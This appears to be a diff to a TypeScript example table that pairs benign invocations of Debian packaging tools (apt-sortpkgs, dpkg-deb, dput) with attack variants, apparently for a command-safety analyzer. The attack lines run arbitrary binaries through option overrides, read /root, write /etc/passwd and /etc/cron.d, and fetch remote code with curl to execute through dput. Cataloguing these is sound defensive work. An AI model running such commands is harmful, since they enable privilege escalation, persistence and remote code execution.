@@ -135,8 +135,8 @@ export const debianPackages1: ExampleTable = {
     attack: 'apt-mark hold hello -o Dir::Bin::dpkg=/tmp/x → run /tmp/x',
   },
   'apt-sortpkgs': {
-    use: 'apt-sortpkgs Packages → use Packages',
-    attack: 'apt-sortpkgs -o Dir::Bin::dpkg=/tmp/x Packages → run /tmp/x; use Packages',
+    use: 'apt-sortpkgs Packages → read Packages',
+    attack: 'apt-sortpkgs -o Dir::Bin::dpkg=/tmp/x Packages → run /tmp/x; read Packages',
   },
   aptitude: {
     use: 'aptitude -q update → nothing',
@@ -201,7 +201,11 @@ export const debianPackages1: ExampleTable = {
     attack: 'dpkg-buildpackage --hook-done=/tmp/x → run /tmp/x',
   },
   'dpkg-deb': {
-    use: 'dpkg-deb --build pkg hello.deb → read-tree pkg; write hello.deb',
+    use: [
+      'dpkg-deb --build pkg hello.deb → read-tree pkg; write hello.deb',
+      'dpkg-deb -I hello.deb control → use hello.deb',
+      'dpkg-deb --fsys-tarfile hello.deb → read hello.deb',
+    ],
     attack: [
       'dpkg-deb --build /root out.deb → read-tree /root; write out.deb',
       'dpkg-deb -x job.deb /etc/cron.d → read job.deb; unpack /etc/cron.d',
@@ -231,7 +235,7 @@ export const debianPackages1: ExampleTable = {
       'dpkg-split -o /etc/passwd --join hello.1of2.deb → read hello.1of2.deb; write /etc/passwd',
   },
   dput: {
-    use: 'dput ftp-master hello.changes → read hello.changes; send dput',
+    use: 'dput hello.changes → read hello.changes; send dput',
     attack:
       'curl -so d.cf https://example.org/x && dput -c d.cf ftp-master hello.changes → execute ‹https://example.org/x›',
   },
